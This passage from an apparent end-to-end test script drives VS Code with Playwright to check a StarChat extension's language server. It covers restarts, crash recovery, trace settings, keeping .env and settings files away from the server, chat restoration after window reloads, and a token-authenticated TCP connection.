    await until("the Fix's answer", async () => clientLog().includes(`Received response 'workspace/executeCommand - (${call.id})'`), 90000, 200);
    await runCommand("Notifications: Clear All Notifications").catch(() => undefined);
    await editor().locator(".view-lines").click();
    await runCommand("File: Revert File");
    await sleep(300);
    await page.keyboard.press("Control+W");
    // an edit the revert missed would hold the close on a "save changes?" dialog
    const dontSave = page.locator(".monaco-dialog-box button", { hasText: "Don't Save" });
    await dontSave.waitFor({ timeout: 1500 }).then(() => dontSave.click(), () => undefined);
    await openCalc();
    return { task: sent.task, diagnostics: sent.diagnostics ?? [] };
  }, { needs: ["open"] });

  // Changing the trace setting (and a server setting) must not restart the server: the language
  // client follows the trace setting itself, and a restart reloads the model.
  await step("trace", async () => {
    const before = serverPids();
    const changesBefore = count(clientLog(), "Sending notification 'workspace/didChangeConfiguration'");
    await runCommand("Preferences: Open User Settings");
    const search = page.locator(".settings-editor .suggest-input-container:visible").first();
    await search.waitFor();
    const find = (query, description) => retry(3, async () => {
      const item = page.locator(".settings-editor .setting-item-contents:visible", { hasText: description }).first();
      await search.click();
      await page.keyboard.press("Control+F"); // the settings search, focused
      await page.keyboard.press("Control+A");
      await page.keyboard.type(query); // keys typed while the editor still renders can be lost: retried
      await item.waitFor({ timeout: 7000 });
      return item;
    });
    const topK = (await find("starchat.topK", "likeliest tokens")).locator("input").first();
    await topK.fill("40");
    await topK.press("Tab");
    await until("the changed settings sent to the server", async () => count(clientLog(), "Sending notification 'workspace/didChangeConfiguration'") > changesBefore, 15000, 200);
    await (await find("starchat.trace.server", "LSP traffic")).locator("select").first().selectOption("messages");
    await sleep(500);
    await screenshot("trace-setting");
    await page.keyboard.press("Control+W");
    // The language client follows the trace setting itself and tells the server ($/setTrace).
    await until("the trace setting taken", async () => count(clientLog(), "Sending notification '$/setTrace'") > 0, 15000, 200);
    await sleep(2000);
    const after = serverPids();
    const status = await statusItem().innerText();
    const log = clientLog();
    return { before, after, status, starts: count(log, "starting the server:"), configurationChanges: count(log, "Sending notification 'workspace/didChangeConfiguration'") - changesBefore };
  }, { needs: ["open"] });

  // Files that look like secrets and the editor's own settings never reach the server: a .env
  // opened, typed in, saved and closed, and the user's and the machine's settings.json opened
  // as files. Fix on the .env says why nothing happens; a chat message with "include selection"
  // from it goes without it, with a note.
  await step("secrets", async () => {
    await openPath(config.secrets.envFile, config.secrets.marker);
    await editor().locator(".view-lines").click();
    await page.keyboard.press("Control+End");
    await page.keyboard.type(config.secrets.typed);
    await page.keyboard.press("Control+S");
    await until(".env saved", async () => fs.readFileSync(config.secrets.envFile, "utf8").includes(config.secrets.typed), 10000);
    await page.keyboard.press("Control+A"); // the selection commands need a selection
    // No Ask StarChat in its right-click menu, nor the commands that send the file in the
    // command palette (package.json: their when-clauses have SECRET_NAMES).
    const menuOnSecret = await contextMenuLabels(config.secrets.marker);
    const paletteOnSecret = await paletteTitles("StarChat");
    await page.keyboard.press("Control+Alt+Shift+F8"); // Fix, from a key bound to it
    const toast = page.locator(".notification-list-item-message", { hasText: "holds secrets" }).first();
    await toast.waitFor({ timeout: 10000 });
    const message = await toast.innerText();
    await screenshot("secret-file");
    // A chat message with the selection included, from the .env.
    await runCommand("StarChat: New Chat");
    const frame = await chatPageFrame();
    await until("an empty chat", async () => (await chatTurns()).length === 0, 10000);
    await chatFrame().locator("#include-selection").check();
    await sendChat(frame, sc.chatQuestion);
    const answer = await until("the chat answer", () => answerDone(frame, 3), 60000);
    await chatFrame().locator("#include-selection").uncheck();
    const turns = await chatTurns();
    await page.keyboard.press("Escape");
    for (const file of config.secrets.settingsFiles) await openPath(file, "starchat");
    await sleep(1500); // time for a didOpen the client would send
    for (let i = 0; i < 1 + config.secrets.settingsFiles.length; i++) {
      await editor().locator(".view-lines").click();
      await page.keyboard.press("Control+W");
      await sleep(200);
    }
    await openCalc();
    await sleep(500);
    await selectLines(4, 5);
    const menuOnCode = await contextMenuLabels("def average");
    const paletteOnCode = await paletteTitles("StarChat");
    return { menuOnSecret, menuOnCode, paletteOnSecret, paletteOnCode, message, notice: turns.find((t) => t.role === "notice")?.text ?? null, answer: answer.text, answerStatus: answer.status, roles: turns.map((t) => t.role) };
  }, { needs: ["open"] });

  // Restart Server twice in a row (a key bound to it, pressed twice): one server afterwards.
  await step("restart-twice", async () => {
    const before = serverPids();
    const startsBefore = count(clientLog(), "starting the server:");
    await editor().locator(".view-lines").click();
    // Both presses in one go (as fast as a user's double press reaches a remote extension host).
    await page.evaluate(() => {
      const target = document.activeElement ?? document.body;
      for (let i = 0; i < 2; i++) {
        for (const type of ["keydown", "keyup"]) {
          const init = { key: "F9", code: "F9", keyCode: 120, which: 120, ctrlKey: true, altKey: true, shiftKey: true, bubbles: true, cancelable: true };
          target.dispatchEvent(new KeyboardEvent(type, init));
        }
      }
    });
    // Two restarts one after the other, or one (the second asked for before the first began).
    await until("a restart", async () => count(clientLog(), "starting the server:") >= startsBefore + 1, 30000, 200);
    await until("a new server", async () => {
      const now = serverPids();
      return now.length > 0 && !now.some((pid) => before.includes(pid));
    }, 30000, 200);
    await sleep(500);
    const ready = await waitReady();
    await sleep(2500); // a server stopped exits within this
    const after = serverPids();
    // The client the extension talks to is the server left running.
    await runCommand("StarChat: New Chat");
    const frame = await chatPageFrame();
    await until("an empty chat", async () => (await chatTurns()).length === 0, 10000);
    await sendChat(frame, sc.chatQuestion);
    const answer = await until("an answer after the restarts", () => answerDone(frame, 2), 30000);
    return { before, after, ready, starts: count(clientLog(), "starting the server:"), answer: answer.text, answerStatus: answer.status };
  }, { needs: ["open"] });

  // The server dies while it answers (e.g. the OOM killer): the answer says so, and the
  // restarted server answers the next question.
  await step("crash", async () => {
    await runCommand("StarChat: New Chat");
    const frame = await chatPageFrame();
    await until("an empty chat", async () => (await chatTurns()).length === 0, 10000);
    await sendChat(frame, sc.longQuestion);
    await until("the long answer to stream", async () => {
      const last = (await chatTurns()).at(-1);
      return last?.role === "assistant" && last.status === "streaming" && last.text.length >= 40;
    }, 60000, 50);
    const killed = serverPids();
    for (const pid of killed) process.kill(pid, "SIGKILL");
    const failed = await until("the answer to fail", async () => {
      const last = (await chatTurns()).at(-1);
      return last?.status !== "streaming" && last;
    }, 20000, 100);
    const error = await chatFrame().locator(".turn.assistant .note.error").last().innerText().catch(() => "");
    await screenshot("crashed");
    await until("a new server", async () => {
      const now = serverPids();
      return now.length > 0 && !now.some((pid) => killed.includes(pid));
    }, 30000, 200);
    await runCommand("StarChat: New Chat");
    await until("an empty chat", async () => (await chatTurns()).length === 0, 10000);
    await sendChat(frame, sc.chatQuestion);
    const again = await until("an answer from the restarted server", () => answerDone(frame, 2), 120000);
    return { killed, status: failed.status, error, again: again.text, againStatus: again.status, after: serverPids() };
  }, { needs: ["open"] });

  // Developer: Reload Window: the conversation comes back, and is the history the next message
  // goes with; New Chat forgets the conversation for good; an answer streaming when the window
  // reloaded comes back as far as it had come, marked interrupted. (The verbose trace again, to
  // read the history sent: the trace step set it to messages.)
  await step("reload-window", async () => {
    const userSettings = path.join(config.userData, "User", "settings.json");
    fs.writeFileSync(userSettings, JSON.stringify({ ...JSON.parse(fs.readFileSync(userSettings, "utf8")), "starchat.trace.server": "verbose" }, null, 2));
    await runCommand("StarChat: New Chat");
    let frame = await chatPageFrame();
    await until("an empty chat", async () => (await chatTurns()).length === 0, 10000);
    await sendChat(frame, sc.chatQuestion);
    await until("the chat answer", () => answerDone(frame, 2), 60000);
    await sleep(500);

    const logsBefore = clientLogFiles();
    await reloadWindow();
    await runCommand("StarChat: Open Chat");
    const restored = await until("the conversation again", async () => {
      const list = await chatTurns();
      return list.length >= 2 && list;
    }, 30000);
    await screenshot("reload-window-restored");
    await waitReady();
    frame = await chatPageFrame();
    await sendChat(frame, sc.chatFollowUp);
    const followUp = await until("the follow-up answer", () => answerDone(frame, 4), 60000);
    const sent = requestParams(clientLog(clientLogFiles().filter((f) => !logsBefore.includes(f))), "starchat/chat");

    // New Chat: the next reload brings nothing back. Then a long answer (the first of a chat, as
    // the model was trained), streaming when the window reloads.
    await runCommand("StarChat: New Chat");
    await until("an empty chat", async () => (await chatTurns()).length === 0, 10000);
    await sleep(500);
    await reloadWindow();
    await runCommand("StarChat: Open Chat");
    frame = await chatPageFrame();
    await waitReady();
    await sendChat(frame, sc.longQuestion);
    // (sending shows the chat view, which closes the command palette: open it after that)
    await until("the long answer to begin", async () => (await chatTurns()).at(-1)?.status === "streaming", 60000, 50);
    let streaming;
    await reloadWindow(async () => {
      streaming = await until("the long answer to stream", async () => {
        const list = await chatTurns();
        const last = list.at(-1);
        return last?.role === "assistant" && last.status === "streaming" && last.text.length >= 40 && list;
      }, 60000, 50);
      await sleep(600); // saved every half second while it streams
    });
    await runCommand("StarChat: Open Chat");
    const interrupted = await until("the conversation again", async () => {
      const list = await chatTurns();
      return list.length >= 2 && list;
    }, 30000);
    frame = await chatPageFrame();
    const note = await chatFrame().locator(".turn.assistant").last().locator(".note").innerText().catch(() => "");
    const spinners = await frame.evaluate(() => document.querySelectorAll(".note.working").length);
    const generating = await frame.evaluate(() => document.body.classList.contains("generating"));
    await screenshot("reload-window-interrupted");

    // A conversation about a selection (Explain): after a reload the chat is still about it, and
    // the next message goes with it.
    await runCommand("StarChat: New Chat");
    await until("an empty chat", async () => (await chatTurns()).length === 0, 10000);
    await openCalc();
    await selectLines(4, 5);
    await contextMenuAction("def average", "Explain");
    frame = await chatPageFrame();
    await until("the explanation", () => answerDone(frame, 2), 60000);
    const contextLabel = () => frame.evaluate(() => (document.getElementById("context").hidden ? null : document.getElementById("context-label").textContent));
    const aboutBefore = await contextLabel();
    // and a file attached to it (from the Explorer's menu): it comes back too, and goes with the next message
    await explorerMenu("shapes.py", "Add File to Chat");
    const attachedBefore = await until("the chip of shapes.py", async () => {
      const chips = await referenceChips(frame);
      return chips.length > 0 && chips;
    }, 10000, 100);
    await sleep(600);
    const logsBeforeContext = clientLogFiles();
    await reloadWindow();
    await runCommand("StarChat: Open Chat");
    await until("the conversation again", async () => (await chatTurns()).length >= 2, 30000);
    frame = await chatPageFrame();
    const aboutAfter = await until("the context again", contextLabel, 10000, 100).catch(() => null);
    const attachedAfter = await referenceChips(frame);
    await screenshot("reload-window-context");
    await waitReady();
    await sendChat(frame, sc.askQuestion);
    await until("an answer about the selection", () => answerDone(frame, 4), 60000);
    const contextSent = requestParams(clientLog(clientLogFiles().filter((f) => !logsBeforeContext.includes(f))), "starchat/chat").map(
      (params) => ({
        uri: params.textDocument?.uri?.replace(/^.*\//, "") ?? null,
        range: params.range ?? null,
        references: params.references?.map((r) => r.textDocument.uri.replace(/^.*\//, "")) ?? null,
        messages: params.messages.length,
      }),
    );
    return {
      restored, followUp: followUp.text, sent: sent.map((params) => params.messages), afterNewChat: streaming, interrupted, note, spinners, generating,
      aboutBefore, aboutAfter, attachedBefore, attachedAfter, contextSent,
    };
  }, { needs: ["open"] });

  await step("status-after", async () => {
    const text = await statusItem().innerText();
    return { status: text };
  });

  // A server reached over TCP (starchat.server.tcp), started with a token: the extension sends
  // the token from starchat.server.env and starts no server of its own; Restart Server is a
  // reconnection that leaves that server, and its loaded model, running.
  await step("tcp", async () => {
    const port = await new Promise((resolve) => {
      const probe = net.createServer().listen(0, "127.0.0.1", () => {
        const { port } = probe.address();
        probe.close(() => resolve(port));
      });
    });
    const token = `tcp-token-${process.pid}`;
    const [exe, ...args] = config.serverCommand;
    const server = spawn(exe, [...args, "--tcp", `127.0.0.1:${port}`], { env: { ...process.env, STARCHAT_LSP_TOKEN: token }, stdio: "ignore" });
    const machine = path.join(config.userData, "Machine", "settings.json");
    const saved = fs.readFileSync(machine, "utf8");
    try {
      await until("the TCP server to listen", () => new Promise((resolve) => {
        const socket = net.connect({ host: "127.0.0.1", port }, () => {
          socket.destroy();
          resolve(true);
        }).on("error", () => resolve(false));
      }), 60000, 200);
      const starts = count(clientLog(), "starting the server:");
      fs.writeFileSync(machine, JSON.stringify({ ...JSON.parse(saved), "starchat.server.tcp": `127.0.0.1:${port}`, "starchat.server.env": { STARCHAT_LSP_TOKEN: token } }, null, 2));
      await until("the extension to connect", async () => clientLog().includes(`starting the server: tcp 127.0.0.1:${port}`), 30000, 200);
      await sleep(500);
      await waitReady();
      const ownServers = await until("the server VS Code started to exit", async () => serverPids().length === 0 && [], 15000, 200).catch(() => serverPids());
      const chatOnce = async () => {
        await runCommand("StarChat: New Chat");
        const frame = await chatPageFrame();
        await until("an empty chat", async () => (await chatTurns()).length === 0, 10000);
        await sendChat(frame, sc.chatQuestion);
        return (await until("the answer over TCP", () => answerDone(frame, 2), 60000)).text;
      };
      const first = await chatOnce();
      await runCommand("StarChat: Restart Server");
      await until("a reconnection", async () => count(clientLog(), `starting the server: tcp 127.0.0.1:${port}`) >= 2, 30000, 200);
      await sleep(500);
      await waitReady();
      const second = await chatOnce();
      const alive = server.exitCode === null && server.signalCode === null;
      return { first, second, alive, ownServers, starts: count(clientLog(), "starting the server:") - starts };
    } finally {
      fs.writeFileSync(machine, saved);
      server.kill();
    }
  }, { needs: ["open"] });
} finally {
  save();
  await browser.close().catch(() => {});
  log("done");
  process.exit(0);
}
